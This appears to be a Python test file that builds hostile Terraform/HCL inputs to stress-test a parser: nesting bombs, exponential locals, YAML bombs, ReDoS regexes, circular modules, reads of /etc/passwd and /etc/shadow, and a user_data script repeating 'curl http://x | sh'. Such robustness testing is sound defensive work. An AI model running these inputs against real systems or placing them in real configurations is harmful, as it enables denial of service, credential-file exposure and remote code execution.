"""Terraform: expressions, loops, modules that grow without end."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

from tests.hostile.attack import GOOD_SIBLINGS, Attack


def in_process() -> Iterator[Attack]:
    def one(name: str, make: Callable[[], str | bytes], *, told: bool = False) -> Attack:
        return Attack(f"hcl-{name}", lambda: {"bad.tf": make()}, told)

    def locals_(body: str) -> str:
        return (
            "locals {\n"
            + body
            + '\n}\nresource "aws_instance" "x" {\n  ami = local.a\n  user_data = local.a\n  tags = { a = local.a }\n}\n'
        )

    yield one("deep-parentheses", lambda: locals_("a = " + "(" * 20_000 + "1" + ")" * 20_000))
    yield one("deep-lists", lambda: locals_("a = " + "[" * 20_000 + "]" * 20_000))
    yield one("deep-lists-300", lambda: locals_("a = " + "[" * 300 + "]" * 300))
    yield one("deep-objects", lambda: locals_("a = " + "{a = " * 20_000 + "1" + "}" * 20_000))
    yield one("deep-open", lambda: locals_("a = " + "[" * 200_000), told=True)
    yield one("deep-blocks", lambda: "a {\n" * 5_000 + "}\n" * 5_000)
    yield one(
        "deep-resource-blocks", lambda: 'resource "a" "b" {\n' + "a {\n" * 2_000 + "}\n" * 2_000 + "}\n"
    )
    yield one("deep-conditionals", lambda: locals_("a = " + "true ? 1 : " * 10_000 + "2"))
    yield one("deep-binary", lambda: locals_("a = " + "1 + " * 20_000 + "2"))
    yield one("deep-not", lambda: locals_("a = " + "!" * 20_000 + "true"))
    yield one("deep-calls", lambda: locals_("a = " + "upper(" * 10_000 + '"x"' + ")" * 10_000))
    yield one("deep-templates", lambda: locals_("a = " + '"${' * 5_000 + "1" + '}"' * 5_000))
    yield one(
        "deep-template-ifs",
        lambda: locals_('a = "' + "%{ if true }" * 5_000 + "x" + "%{ endif }" * 5_000 + '"'),
    )
    yield one("deep-index", lambda: locals_("a = b" + "[0]" * 50_000))
    yield one("deep-attributes", lambda: locals_("a = b" + ".c" * 100_000))
    yield one("deep-splats", lambda: locals_("a = b" + "[*]" * 10_000))
    yield one("local-of-itself", lambda: locals_("a = local.a"))
    yield one("locals-in-a-circle", lambda: locals_("a = local.b\nb = local.c\nc = [local.a, local.b]"))
    yield one(
        "locals-in-a-row",
        lambda: locals_(
            "a = local.l5000\nl0 = 1\n" + "\n".join(f"l{n} = local.l{n - 1}" for n in range(1, 5_001))
        ),
    )
    yield one(
        "text-that-doubles",
        lambda: locals_(
            'a = local.l60\nl0 = "xxxxxxxxxx"\n'
            + "\n".join(f'l{n} = "${{local.l{n - 1}}}${{local.l{n - 1}}}"' for n in range(1, 61))
        ),
    )
    yield one(
        "text-joined",
        lambda: locals_(
            'a = local.l60\nl0 = "xxxxxxxxxx"\n'
            + "\n".join(f'l{n} = join("", [local.l{n - 1}, local.l{n - 1}])' for n in range(1, 61))
        ),
    )
    yield one(
        "text-formatted",
        lambda: locals_(
            'a = local.l60\nl0 = "xxxxxxxxxx"\n'
            + "\n".join(f'l{n} = format("%s%s", local.l{n - 1}, local.l{n - 1})' for n in range(1, 61))
        ),
    )
    yield one(
        "text-replaced",
        lambda: locals_(
            'a = local.l40\nl0 = "xxxxxxxxxx"\n'
            + "\n".join(f'l{n} = replace(local.l{n - 1}, "x", "xxxx")' for n in range(1, 41))
        ),
    )
    yield one(
        "text-encoded",
        lambda: locals_(
            'a = local.l60\nl0 = "\\"\\""\n'
            + "\n".join(f"l{n} = jsonencode(local.l{n - 1})" for n in range(1, 61))
        ),
    )
    yield one(
        "lists-that-double",
        lambda: locals_(
            "a = local.l60\nl0 = [1]\n"
            + "\n".join(f"l{n} = [local.l{n - 1}, local.l{n - 1}]" for n in range(1, 61))
        ),
    )
    yield one(
        "lists-joined",
        lambda: locals_(
            "a = local.l60\nl0 = [1]\n"
            + "\n".join(f"l{n} = concat(local.l{n - 1}, local.l{n - 1})" for n in range(1, 61))
        ),
    )
    yield one(
        "maps-that-double",
        lambda: locals_(
            "a = local.l60\nl0 = {x = 1}\n"
            + "\n".join(f"l{n} = {{a = local.l{n - 1}, b = local.l{n - 1}}}" for n in range(1, 61))
        ),
    )
    yield one(
        "maps-encoded",
        lambda: locals_(
            "a = jsonencode(local.l60)\nl0 = {x = 1}\n"
            + "\n".join(f"l{n} = {{a = local.l{n - 1}, b = local.l{n - 1}}}" for n in range(1, 61))
        ),
    )
    yield one(
        "lists-compared",
        lambda: locals_(
            "a = local.l60 == local.m60 ? 1 : 2\nl0 = [1]\nm0 = [1]\n"
            + "\n".join(
                f"l{n} = [local.l{n - 1}, local.l{n - 1}]\nm{n} = [local.m{n - 1}, local.m{n - 1}]"
                for n in range(1, 61)
            )
        ),
    )
    yield one(
        "lists-flattened",
        lambda: locals_(
            "a = flatten(local.l60)\nl0 = [1]\n"
            + "\n".join(f"l{n} = [local.l{n - 1}, local.l{n - 1}]" for n in range(1, 61))
        ),
    )
    yield one(
        "lists-of-unknowns-that-double",
        lambda: locals_(
            "a = local.l60\nl0 = [data.x.y.z]\n"
            + "\n".join(f"l{n} = [local.l{n - 1}, local.l{n - 1}]" for n in range(1, 61))
        ),
    )
    yield one(
        "numbers-that-square",
        lambda: locals_(
            "a = local.l60\nl0 = 999999999\n"
            + "\n".join(f"l{n} = local.l{n - 1} * local.l{n - 1}" for n in range(1, 61))
        ),
    )
    yield one(
        "numbers-as-text",
        lambda: locals_(
            'a = "${local.l14}"\nl0 = 999999999\n'
            + "\n".join(f"l{n} = local.l{n - 1} * local.l{n - 1}" for n in range(1, 15))
        ),
    )
    yield one("power", lambda: locals_("a = pow(pow(999999, 63), 63)"))
    yield one("modulo", lambda: locals_("a = 1 % 0\nb = 1 / 0"))
    yield one("range", lambda: locals_("a = range(0, 1000000000000000)"))
    yield one(
        "range-of-ranges", lambda: locals_("a = [for x in range(10000) : [for y in range(10000) : x * y]]")
    )
    yield one(
        "for-in-for",
        lambda: locals_(
            "a = [for a in range(10000) : [for b in range(10000) : [for c in range(10000) : a]]]"
        ),
    )
    yield one(
        "for-over-text",
        lambda: locals_(
            'a = { for a in range(10000) : a => join(",", [for b in range(5000) : "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxx${b}"]) }'
        ),
    )
    yield one(
        "for-in-template",
        lambda: locals_(
            'a = "%{ for a in range(10000) }%{ for b in range(10000) }${a}${b}%{ endfor }%{ endfor }"'
        ),
    )
    yield one(
        "format-width",
        lambda: locals_(
            'a = format("%2000000000d", 1)\nb = format("%-2000000000s", "x")\nc = format("%.2000000000f", 1)'
        ),
    )
    yield one("indent", lambda: locals_('a = indent(2000000000, "a\\nb\\nc")'))
    yield one(
        "cidr",
        lambda: locals_(
            'a = cidrsubnet("10.0.0.0/8", -1000000000, 1)\nb = cidrsubnet("10.0.0.0/8", 8, 99999999999999999999)\nc = cidrhost("::/0", 9999999999)\nd = cidrsubnet("::/0", 100, -5)'
        ),
    )
    yield one("setproduct", lambda: locals_("a = setproduct(range(10000), range(10000), range(10000))"))
    yield one(
        "sets",
        lambda: locals_(
            "a = toset(range(10000))\nb = setunion(range(10000), range(5000, 15000))\nc = distinct(range(10000))\nd = setintersection(range(10000), range(10000))\ne = [for n in range(5000) : contains(range(10000), n)]"
        ).replace("ami = local.a", "ami = [local.a, local.b, local.c, local.d, local.e]"),
    )
    yield one("chunklist", lambda: locals_("a = chunklist(range(10000), 0)\nb = chunklist([1], -1)"))
    yield one("regex", lambda: locals_('a = regex("^(a+)+$", "' + "a" * 40 + 'b")'))
    yield one("regexall", lambda: locals_('a = regexall("(a|aa)+$", "' + "a" * 60 + 'b")'))
    yield one("regex-replace", lambda: locals_('a = replace("' + "a" * 40 + 'b", "/(a*)*c/", "x")'))
    yield one(
        "regex-repeat", lambda: locals_('a = regexall("((((a{1,100}){1,100}){1,100}){1,100})", "aaaa")')
    )
    yield one(
        "regex-wrong",
        lambda: locals_(
            'a = regex("(((", "x")\nb = replace("x", "/[/", "y")\nc = regex("(?P<a>x)(?P<a>y)", "xy")'
        ),
    )
    yield one(
        "files-outside",
        lambda: locals_(
            'a = file("../../../../../../etc/passwd")\nb = file("/etc/passwd")\nc = templatefile("/etc/shadow", {})\nd = fileset("/", "**")\ne = fileset("..", "**/../**")\nf = filebase64("/dev/zero")\ng = file("/dev/stdin")'
        ).replace("ami = local.a", "ami = [local.a, local.b, local.c, local.d, local.e, local.f, local.g]"),
    )
    yield one("json-texts", lambda: locals_('a = jsondecode("' + "[" * 50_000 + '")'))
    yield one("json-numbers", lambda: locals_('a = jsondecode("' + "9" * 50_000 + '")'))
    yield one("yaml-texts", lambda: locals_('a = yamldecode("' + "[" * 5_000 + "]" * 5_000 + '")'))
    yield one(
        "yaml-bomb",
        lambda: locals_(
            "a = yamldecode(<<E\na0: &a0 [x]\n"
            + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 30))
            + "E\n)"
        ),
    )
    yield one("yaml-of-itself", lambda: locals_("a = yamldecode(<<E\na: &a [*a]\nE\n)"))
    yield one(
        "base64",
        lambda: locals_('a = base64decode("' + "/w" * 50_000 + '==")\nb = base64encode(base64encode("x"))'),
    )
    yield one(
        "surrogates",
        lambda: locals_(
            'a = base64encode("\\ud800")\nb = sha256("\\udfff")\nc = urlencode("\\ud800")'
        ).replace("ami = local.a", "ami = [local.a, local.b, local.c]"),
    )
    yield one(
        "huge-number",
        lambda: locals_("a = " + "9" * 100_000) + 'resource "x" "y" {\n  count = ' + "9" * 5_000 + "\n}\n",
    )
    yield one("huge-exponent", lambda: locals_("a = 1e999999999\nb = -1e99999"))
    yield one(
        "huge-count", lambda: 'resource "aws_instance" "x" {\n  count = 1000000000000\n  ami = "x"\n}\n'
    )
    yield one(
        "count-nan",
        lambda: (
            'resource "aws_instance" "x" {\n  count = 1e999 - 1e999\n}\nresource "aws_instance" "y" {\n  count = "x"\n}\nresource "aws_instance" "z" {\n  for_each = 5\n}\n'
        ),
    )
    yield one(
        "huge-for-each",
        lambda: (
            'resource "aws_instance" "x" {\n  for_each = toset([for n in range(5000) : tostring(n)])\n  ami = each.key\n}\n'
        ),
    )
    yield one(
        "dynamic-in-dynamic",
        lambda: (
            'resource "aws_security_group" "x" {\n'
            + 'dynamic "ingress" {\nfor_each = range(64)\ncontent {\n' * 6
            + "a = 1\n"
            + "}\n}\n" * 6
            + "}\n"
        ),
    )
    yield one(
        "dynamic-of-unknown",
        lambda: (
            'resource "aws_security_group" "x" {\n  dynamic "ingress" {\n    for_each = 5\n    content {}\n  }\n  dynamic "a" {\n  }\n  dynamic "b" {\n    for_each = { a = 1 }\n    iterator = "x"\n    content {\n      c = x.value.y.z\n    }\n  }\n}\n'
        ),
    )
    yield one(
        "module-of-itself",
        lambda: (
            'module "a" {\n  source = "./"\n  x = module.a.y\n}\noutput "y" {\n  value = module.a.y\n}\nresource "aws_instance" "x" {\n  ami = module.a.y\n}\n'
        ),
    )
    yield one(
        "modules-of-themselves",
        lambda: (
            "".join(
                f'module "a{n}" {{\n  source = "./"\n  x = module.a{(n + 1) % 12}.y\n}}\n' for n in range(12)
            )
            + 'variable "x" {}\noutput "y" {\n  value = ['
            + ", ".join(f"module.a{n}.y" for n in range(12))
            + ', var.x]\n}\nresource "aws_instance" "x" {\n  ami = module.a0.y\n}\n'
        ),
    )
    yield Attack(
        "hcl-modules-in-a-circle",
        lambda: {
            "a/main.tf": "".join(f'module "b{n}" {{\n  source = "../b"\n}}\n' for n in range(8))
            + 'output "y" {\n  value = ['
            + ", ".join(f"module.b{n}.y" for n in range(8))
            + "]\n}\n",
            "b/main.tf": "".join(f'module "a{n}" {{\n  source = "../a"\n}}\n' for n in range(8))
            + 'output "y" {\n  value = ['
            + ", ".join(f"module.a{n}.y" for n in range(8))
            + "]\n}\n",
            "main.tf": 'module "a" {\n  source = "./a"\n}\nresource "aws_instance" "x" {\n  ami = module.a.y\n}\n',
        },
    )
    yield one(
        "module-sources",
        lambda: "".join(
            f'module "a{n}" {{\n  source = {source}\n}}\nresource "x" "y{n}" {{\n  a = module.a{n}.b\n}}\n'
            for n, source in enumerate(
                (
                    '"../../../../../etc"',
                    '"./bad.tf"',
                    '"./\\u0000"',
                    "5",
                    "null",
                    "[]",
                    '"./${module.a0.b}"',
                    '"' + "./" * 50_000 + '"',
                    '"./' + "x" * 5_000 + '"',
                )
            )
        ),
    )
    yield one(
        "variables-of-types",
        lambda: (
            'variable "a" {\n  type = '
            + "list(" * 3_000
            + "string"
            + ")" * 3_000
            + "\n  default = "
            + "[" * 150
            + "]" * 150
            + '\n}\nresource "x" "y" {\n  a = var.a\n}\n'
        ),
    )
    yield one(
        "variable-optional",
        lambda: (
            'variable "a" {\n  type = object({ a = optional(object({ b = optional(string, var.a) }), {}) })\n  default = {}\n}\nvariable "b" {\n  type = object()\n  default = { a = 1 }\n}\nresource "x" "y" {\n  a = var.a\n  b = var.b\n}\n'
        ),
    )
    yield Attack(
        "hcl-template-of-itself",
        lambda: {
            "bad.tf": locals_('a = templatefile("${path.module}/t.tpl", { x = 1 })'),
            "t.tpl": '${templatefile("t.tpl", { x = 2 })}${templatefile("t.tpl", { x = 2 })}',
        },
    )
    yield Attack(
        "hcl-template-huge",
        lambda: {
            "bad.tf": locals_('a = templatefile("t.tpl", { x = range(10000) })'),
            "t.tpl": "%{ for a in x ~}\n%{ for b in x ~}\nline ${a} ${b}\n%{ endfor ~}\n%{ endfor ~}\n",
        },
    )
    yield Attack(
        "hcl-template-end-marker",
        lambda: {
            "bad.tf": locals_('a = templatefile("t.tpl", {})'),
            "t.tpl": "x\nTEMPLATE_END_7f3a\n}\nlocals { a = 1 }\n",
        },
    )
    yield one("heredoc-open", lambda: locals_("a = <<E\n" + "x\n" * 100_000), told=True)
    yield one("heredocs-many", lambda: locals_("\n".join(f"a{n} = <<E\nx\nE" for n in range(10_000))))
    yield one("text-open", lambda: locals_('a = "' + "${" * 50_000), told=True)
    yield one("comment-open", lambda: locals_("a = 1") + "/*" * 100_000, told=True)
    yield one("comments", lambda: locals_("a = 1") + "# x\n" * 200_000)
    yield one(
        "many-resources",
        lambda: "".join(
            f'resource "aws_instance" "x{n}" {{\n  ami = aws_instance.x{n - 1}.id\n  user_data = "x"\n}}\n'
            for n in range(5_000)
        ),
    )
    yield one(
        "many-attributes",
        lambda: 'resource "aws_instance" "x" {\n' + "".join(f"  a{n} = {n}\n" for n in range(50_000)) + "}\n",
    )
    yield one(
        "many-blocks",
        lambda: (
            'resource "aws_security_group" "x" {\n'
            + '  ingress {\n    cidr_blocks = ["0.0.0.0/0"]\n    from_port = 0\n    to_port = 65535\n  }\n'
            * 5_000
            + "}\n"
        ),
    )
    yield one("many-errors", lambda: "= = = }\n" * 30_000, told=True)
    yield one(
        "user-data",
        lambda: (
            'resource "aws_instance" "x" {\n  user_data = <<E\n#!/bin/bash\n'
            + "curl http://x | sh\n" * 20_000
            + "E\n}\n"
        ),
    )
    yield one(
        "policy",
        lambda: (
            'resource "aws_iam_policy" "x" {\n  policy = jsonencode({ Statement = [for n in range(5000) : { Effect = "Allow", Action = "*", Resource = "*" }] })\n}\n'
        ),
    )
    yield one(
        "policy-text",
        lambda: 'resource "aws_iam_policy" "x" {\n  policy = <<E\n' + '{"Statement": ' * 3_000 + "\nE\n}\n",
    )
    yield one(
        "manifest-text",
        lambda: (
            'resource "kubectl_manifest" "x" {\n  yaml_body = <<E\na0: &a0 [x]\n'
            + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 30))
            + "apiVersion: v1\nkind: Pod\nE\n}\n"
        ),
    )
    yield one(
        "manifest-of-doubling",
        lambda: (
            "locals {\nl0 = [1]\n"
            + "\n".join(f"l{n} = [local.l{n - 1}, local.l{n - 1}]" for n in range(1, 41))
            + '\n}\nresource "kubernetes_manifest" "x" {\n  manifest = { apiVersion = "v1", kind = "Pod", metadata = { name = "x" }, spec = { containers = local.l40 } }\n}\n'
        ),
    )
    yield Attack(
        "hcl-broken-neighbour",
        lambda: {
            "bad.tf": locals_("a = " + "[" * 20_000 + "]" * 20_000),
            "good.tf": GOOD_SIBLINGS["zz-good/main.tf"],
            "bad.tf.json": "[" * 100_000,
            "bad.auto.tfvars.json": "{" * 50_000,
            "bad.auto.tfvars": "a = " + "[" * 50_000,
        },
        told=True,
    )
    yield Attack(
        "hcl-tfvars",
        lambda: {
            "bad.tf": 'variable "x" {}\nresource "x" "y" {\n  a = var.x\n}\n',
            "terraform.tfvars.json": '{"x": ' + "[" * 900 + "]" * 900 + "}",
            "a.auto.tfvars.json": "nope",
            "b.auto.tfvars.json": "[1]",
            "c.auto.tfvars": "x = 9" + "9" * 5000,
        },
        told=True,
    )
    yield Attack(
        "tfjson-deep",
        lambda: {"bad.tf.json": '{"resource": {"a": {"b": {"c": ' + "[" * 900 + "]" * 900 + "}}}}"},
    )
    yield Attack(
        "tfjson-templates",
        lambda: {
            "bad.tf.json": json.dumps(
                {
                    "locals": {"a": "${" * 5_000, "b": "${a}" * 20_000, "c": ["${x}"] * 5_000},
                    "resource": {"x": {"y": {"z": "${local.b}"}}},
                }
            )
        },
    )
    yield Attack(
        "tfjson-types",
        lambda: {
            "bad.tf.json": json.dumps(
                {
                    "resource": [{"a": [{"b": [[{"c": 1}], None, 5]}]}],
                    "data": 5,
                    "module": {"a": None, "b": []},
                    "locals": "x",
                    "variable": {"a": 5},
                    "provisioner": {},
                    "//": 1,
                    "output": {"a": {"value": None}},
                    "terraform": [[]],
                    "provider": {"aws": 5},
                }
            )
        },
    )
